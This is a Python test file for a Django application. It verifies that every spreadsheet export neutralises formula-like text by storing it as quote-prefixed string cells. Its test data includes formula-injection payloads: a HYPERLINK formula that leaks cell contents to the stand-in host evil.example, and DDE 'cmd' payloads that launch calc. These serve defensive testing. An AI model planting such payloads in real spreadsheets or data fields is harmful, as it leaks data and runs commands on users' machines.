"""Exports never carry live formulas (issue 9, point 14).

Every export endpoint is fed records whose text starts with what a spreadsheet takes for a
formula (= + - @, tab, CR, LF) and each file is checked at the XML level: no <f> element
anywhere, every such text a string cell with Excel's quotePrefix, and the text itself kept
exactly (so an export imports back unchanged). Numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.core.excel import FORMULA_TRIGGERS, export_cell, workbook_bytes
from apps.indicators.models import Indicator
from apps.jobs.models import JobRun
from apps.projects import views as project_views
from apps.projects.models import LibraryStatus
from tests.contracts.factories import ContractFactory, ContractReportFactory, FairFactory
from tests.projects.factories import make_project
from tests.tasks.factories import TaskFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
MALICIOUS = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def assert_inert(content: bytes, *expected: str) -> None:
    """No formula in any sheet; every formula-like text is a quote-prefixed string cell."""
    package = zipfile.ZipFile(BytesIO(content))
    for name in package.namelist():
        if name.startswith("xl/worksheets/"):
            assert (
                "<f>" not in package.read(name).decode()
                and "<f " not in package.read(name).decode()
            ), name
    wb = load_workbook(BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, (
                            cell.coordinate,
                            cell.value,
                        )
    for text in expected:  # kept verbatim (XML itself reads a bare CR as LF)
        assert any(text.replace("\r", "\n") in t for t in texts), (text, texts[:40])


# --- the helper ------------------------------------------------------------------------------


def test_formula_like_text_is_inert_and_numbers_stay_numbers():
    content = workbook_bytes(
        ["名称", "金额", "文本"],
        [[m, Decimal("-3.5"), "-3.5"] for m in MALICIOUS] + [["普通名称", -2, "a=b"]],
    )
    assert_inert(content, *MALICIOUS)
    ws = load_workbook(BytesIO(content)).active
    assert [c.value for c in ws[2]] == [HYPERLINK, -3.5, "-3.5"]
    assert (ws["B2"].data_type, ws["B2"].quotePrefix) == ("n", False)  # a negative number
    assert (ws["C2"].data_type, ws["C2"].quotePrefix) == ("s", True)  # text that looks like one
    assert (ws["A9"].value, ws["A9"].quotePrefix) == ("普通名称", False)


def test_control_characters_do_not_break_an_export():
    ws_content = workbook_bytes(["名称"], [["甲\x1b乙\x0c丙"]])
    assert load_workbook(BytesIO(ws_content)).active["A2"].value == "甲乙丙"


def test_export_cell_keeps_styles_and_number_formats():
    from openpyxl import Workbook
    from openpyxl.styles import Font

    ws = Workbook(write_only=True).create_sheet()
    cell = export_cell(ws, Decimal("-1.25"), font=Font(bold=True), number_format="0.00##")
    assert (cell.data_type, cell.number_format, cell.font.b) == ("n", "0.00##", True)
    assert export_cell(ws, "@x", number_format="0.00").number_format == "General"


# --- every export endpoint -------------------------------------------------------------------


@pytest.fixture
def admin_client(client, admin_user_):
    client.force_login(admin_user_)
    return client


@pytest.mark.django_db
def test_project_list_export(admin_client, xining):
    projects = [
        make_project(xining, name=f"{m}{i}", implementing_entity="=1+1", note="@SUM(A1)")
        for i, m in enumerate(MALICIOUS)
    ]
    names = [p.name for p in projects]  # as saved (the form layer trims surrounding spaces)
    assert HYPERLINK + "0" in names
    response = admin_client.get(reverse("projects:export"))
    assert response.status_code == 200
    assert response.streaming  # written to a temporary file and streamed (issue 15)
    assert_inert(b"".join(response.streaming_content), *names, "=1+1", "@SUM(A1)")


@pytest.mark.django_db
def test_project_export_run_as_a_job_and_downloaded(
    admin_client, xining, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(project_views, "EXPORT_IN_BACKGROUND", 0)
    make_project(xining, LibraryStatus.DRAFT, name=HYPERLINK)
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.get(reverse("projects:export"))
    job = JobRun.objects.get(kind="projects.export")
    assert response.status_code == 302
    download = admin_client.get(reverse("jobs:download", args=[job.pk]))
    assert download.status_code == 200
    assert_inert(b"".join(download.streaming_content), HYPERLINK)


@pytest.mark.django_db
def test_ledger_and_month_report_exports(admin_client):
    fair = FairFactory()
    contract = ContractFactory(
        fair=fair,
        name=HYPERLINK,
        party_a=["+大通县政府"],
        party_b=["-某某公司"],
        responsible_leader="@张三",
        needs_correction=True,
        correction_note="=原表右移",
    )
    ContractReportFactory(
        contract=contract, period=dt.date(2017, 10, 1), progress="=1+1", problems="\t=2+2"
    )
    ledger = admin_client.get(reverse("contracts:ledger-export"), {"fair": fair.pk})
    assert ledger.status_code == 200
    assert_inert(ledger.content, HYPERLINK, "+大通县政府", "-某某公司", "@张三", "=原表右移")
    month = admin_client.get(
        reverse("contracts:reports-export"), {"fair": fair.pk, "month": "2017-10"}
    )
    assert month.status_code == 200
    assert_inert(month.content, HYPERLINK, "=1+1", "\t=2+2")


@pytest.mark.django_db
def test_task_division_export(admin_client, xining):
    TaskFactory(content=HYPERLINK, lead=[xining])
    response = admin_client.get(reverse("tasks:export"))
    assert response.status_code == 200
    assert_inert(response.content, HYPERLINK)


@pytest.mark.django_db
def test_indicator_export(admin_client):
    Indicator.objects.create(level=1, number=99, text=HYPERLINK)
    response = admin_client.get(reverse("indicators:export"))
    assert response.status_code == 200
    assert_inert(response.content, HYPERLINK)


@pytest.mark.django_db
def test_job_error_report(admin_client, admin_user_):
    job = JobRun.objects.create(
        kind="projects.import",
        user=admin_user_,
        status=JobRun.Status.FAILED,
        error_report=[{"row": 3, "column": "=列", "level": "error", "message": HYPERLINK}],
    )
    response = admin_client.get(reverse("jobs:error-report", args=[job.pk]))
    assert response.status_code == 200
    assert_inert(response.content, HYPERLINK, "=列")


def test_every_writer_goes_through_the_helper():
    """A new exporter that builds its own cells (openpyxl or csv) must use export_cell."""
    from pathlib import Path

    from django.conf import settings

    static_only = {"apps/projects/excel.py"}  # template_bytes: fixed headers and notes only
    writers = []
    for path in sorted((Path(settings.BASE_DIR) / "apps").rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        name = path.relative_to(settings.BASE_DIR).as_posix()
        if any(w in source for w in ("Workbook(", "WriteOnlyCell(", "csv.writer", "DictWriter")):
            writers.append(name)
            if name != "apps/core/excel.py" and name not in static_only:
                assert "export_cell(" in source, f"{name} writes cells without export_cell"
    assert "apps/contracts/exports.py" in writers


@pytest.mark.django_db
def test_quarterly_report_export(admin_client):
    fair = FairFactory()
    contract = ContractFactory(fair=fair, name=HYPERLINK, responsible_leader="@张三")
    ContractReportFactory(contract=contract, period=dt.date(2017, 10, 1), progress="=1+1")
    response = admin_client.get(
        reverse("contracts:quarterly-export"), {"fair": fair.pk, "quarter": "2017-Q4"}
    )
    assert response.status_code == 200
    assert_inert(response.content, HYPERLINK)


@pytest.mark.django_db
def test_bulletin_export_keeps_a_negative_score_a_number(admin_client):
    from apps.rankings.models import Bulletin

    bulletin = Bulletin.objects.create(
        kind=Bulletin.Kind.MONTH,
        period=dt.date(2026, 11, 1),
        by=Bulletin._meta.get_field("by").choices[0][0],
        title="@通报",
        rows=[{"rank": 1, "name": HYPERLINK, "score": "-1.5"}],
    )
    response = admin_client.get(reverse("rankings:bulletin-export", args=[bulletin.pk]))
    assert response.status_code == 200
    assert_inert(response.content, HYPERLINK)
    ws = load_workbook(BytesIO(response.content)).active
    row = next(r for r in ws.iter_rows() if r[1].value == HYPERLINK)
    assert (row[2].value, row[2].data_type) == (-1.5, "n")
